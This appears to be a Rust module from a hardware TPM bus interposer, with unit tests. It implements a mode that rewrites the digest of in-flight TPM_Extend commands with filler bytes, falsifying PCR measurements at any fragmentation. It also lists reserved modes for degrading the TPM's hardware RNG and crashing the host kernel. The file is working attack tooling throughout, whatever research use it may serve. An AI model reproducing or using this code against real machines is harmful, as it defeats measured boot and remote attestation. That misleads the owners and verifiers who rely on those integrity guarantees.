//! Interception modes and payload rewriting.
//!
//! Rewriting happens on the host-to-interposer write leg, after the fragment
//! has been appended to the FIFO mirror but before the embedder forwards it
//! to the TPM. Only the bytes of the current fragment are writable; earlier
//! fragments are already on the wire.

use core::fmt;
use core::ops::Range;
use static_assertions::const_assert_eq;
use wedge_proto::{CommandHeader, Ordinal, DIGEST_LEN, HEADER_LEN};

/// Active interception behavior.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mode {
    /// Relay every byte untouched.
    Passthrough,
    /// Overwrite the digest of TPM_Extend commands in flight.
    SpoofPcrExtend,
    /// Reserved: degrade TPM_GetRandom output on the response path.
    AlterHardwareRng,
    /// Reserved: corrupt a response the host kernel trusts.
    TriggerKernelCrash,
}

impl Mode {
    /// The mode that follows in the cycling order.
    pub const fn next(self) -> Self {
        match self {
            Mode::Passthrough => Mode::SpoofPcrExtend,
            Mode::SpoofPcrExtend => Mode::AlterHardwareRng,
            Mode::AlterHardwareRng => Mode::TriggerKernelCrash,
            Mode::TriggerKernelCrash => Mode::Passthrough,
        }
    }

    /// Human-readable mode name.
    pub const fn name(self) -> &'static str {
        match self {
            Mode::Passthrough => "Passthrough",
            Mode::SpoofPcrExtend => "Spoof PCR Extend",
            Mode::AlterHardwareRng => "Alter Hardware RNG",
            Mode::TriggerKernelCrash => "Trigger Kernel Crash",
        }
    }
}

impl fmt::Display for Mode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl Default for Mode {
    fn default() -> Self {
        Mode::Passthrough
    }
}

/// Byte the spoofed digest region is filled with.
pub const SPOOF_FILL: u8 = 0xAA;

// TPM_Extend wire layout: header, 4-byte PCR index, 20-byte digest.
const DIGEST_OFFSET: usize = HEADER_LEN + 4;
const DIGEST_END: usize = DIGEST_OFFSET + DIGEST_LEN;
const_assert_eq!(DIGEST_END, 34);

/// Rewrite the outgoing `fragment` according to `mode`.
///
/// `assembled` is the full FIFO mirror with `fragment` already appended as
/// its tail. Returns the absolute range of command bytes that were
/// overwritten, or `None` when the fragment goes out unchanged.
pub fn mutate(mode: Mode, assembled: &[u8], fragment: &mut [u8]) -> Option<Range<usize>> {
    match mode {
        Mode::Passthrough => None,
        Mode::SpoofPcrExtend => spoof_pcr_extend(assembled, fragment),
        // Reserved modes relay untouched until their rewrites exist.
        Mode::AlterHardwareRng | Mode::TriggerKernelCrash => None,
    }
}

/// Fill the digest bytes of an in-flight TPM_Extend with [`SPOOF_FILL`].
///
/// The host computed the digest; the TPM will extend with ours. Handles any
/// fragmentation: only the part of the digest region that falls inside the
/// current fragment is overwritten, clamped so neither the PCR index before
/// it nor trailing bytes after it are touched.
fn spoof_pcr_extend(assembled: &[u8], fragment: &mut [u8]) -> Option<Range<usize>> {
    let header = CommandHeader::parse(assembled)?;
    if header.ordinal != Ordinal::PcrExtend.as_u32() {
        return None;
    }

    let prev_size = assembled.len() - fragment.len();
    let lo = prev_size.max(DIGEST_OFFSET);
    let hi = assembled.len().min(DIGEST_END);
    if lo >= hi {
        return None;
    }

    fragment[lo - prev_size..hi - prev_size].fill(SPOOF_FILL);
    Some(lo..hi)
}

// =============================================================================
// TESTS
// =============================================================================

#[cfg(test)]
mod tests {
    use super::*;
    use wedge_proto::CommandBuffer;

    fn extend_command() -> CommandBuffer {
        let mut cmd = CommandBuffer::new();
        cmd.build_pcr_extend(0, &[0x11; DIGEST_LEN]).unwrap();
        cmd
    }

    #[test]
    fn test_mode_cycle_wraps() {
        let mut mode = Mode::Passthrough;
        let expected = [
            Mode::SpoofPcrExtend,
            Mode::AlterHardwareRng,
            Mode::TriggerKernelCrash,
            Mode::Passthrough,
        ];
        for want in expected {
            mode = mode.next();
            assert_eq!(mode, want);
        }
    }

    #[test]
    fn test_passthrough_never_touches() {
        let cmd = extend_command();
        let mut fragment = [0u8; 34];
        fragment.copy_from_slice(cmd.as_slice());
        assert_eq!(mutate(Mode::Passthrough, cmd.as_slice(), &mut fragment), None);
        assert_eq!(&fragment[..], cmd.as_slice());
    }

    #[test]
    fn test_spoof_whole_command_in_one_fragment() {
        let cmd = extend_command();
        let mut fragment = [0u8; 34];
        fragment.copy_from_slice(cmd.as_slice());

        let range = mutate(Mode::SpoofPcrExtend, cmd.as_slice(), &mut fragment);
        assert_eq!(range, Some(14..34));
        // Header and PCR index survive, digest does not.
        assert_eq!(&fragment[..14], &cmd.as_slice()[..14]);
        assert!(fragment[14..34].iter().all(|&b| b == SPOOF_FILL));
    }

    #[test]
    fn test_spoof_across_header_and_body_fragments() {
        let cmd = extend_command();
        let wire = cmd.as_slice();

        // Header fragment: nothing to spoof yet.
        let mut head = [0u8; 10];
        head.copy_from_slice(&wire[..10]);
        assert_eq!(mutate(Mode::SpoofPcrExtend, &wire[..10], &mut head), None);
        assert_eq!(&head[..], &wire[..10]);

        // Body fragment: digest starts 4 bytes in, after the PCR index.
        let mut body = [0u8; 24];
        body.copy_from_slice(&wire[10..]);
        let range = mutate(Mode::SpoofPcrExtend, wire, &mut body);
        assert_eq!(range, Some(14..34));
        assert_eq!(&body[..4], &wire[10..14]);
        assert!(body[4..].iter().all(|&b| b == SPOOF_FILL));
    }

    #[test]
    fn test_spoof_single_byte_fragments() {
        let cmd = extend_command();
        let wire = cmd.as_slice();

        let mut forwarded = [0u8; 34];
        for i in 0..wire.len() {
            let mut fragment = [wire[i]];
            let range = mutate(Mode::SpoofPcrExtend, &wire[..i + 1], &mut fragment);
            if (14..34).contains(&i) {
                assert_eq!(range, Some(i..i + 1));
                assert_eq!(fragment[0], SPOOF_FILL);
            } else {
                assert_eq!(range, None);
                assert_eq!(fragment[0], wire[i]);
            }
            forwarded[i] = fragment[0];
        }

        assert_eq!(&forwarded[..14], &wire[..14]);
        assert!(forwarded[14..].iter().all(|&b| b == SPOOF_FILL));
    }

    #[test]
    fn test_other_ordinals_untouched() {
        let mut cmd = CommandBuffer::new();
        cmd.build_get_random(32).unwrap();
        let mut fragment = [0u8; 14];
        fragment.copy_from_slice(cmd.as_slice());
        assert_eq!(mutate(Mode::SpoofPcrExtend, cmd.as_slice(), &mut fragment), None);
        assert_eq!(&fragment[..], cmd.as_slice());
    }

    #[test]
    fn test_partial_header_untouched() {
        // Fewer than 10 bytes assembled: no ordinal to match yet.
        let mut fragment = [0x00, 0xC1, 0x00];
        let copy = fragment;
        assert_eq!(mutate(Mode::SpoofPcrExtend, &copy, &mut fragment), None);
        assert_eq!(fragment, copy);
    }
}
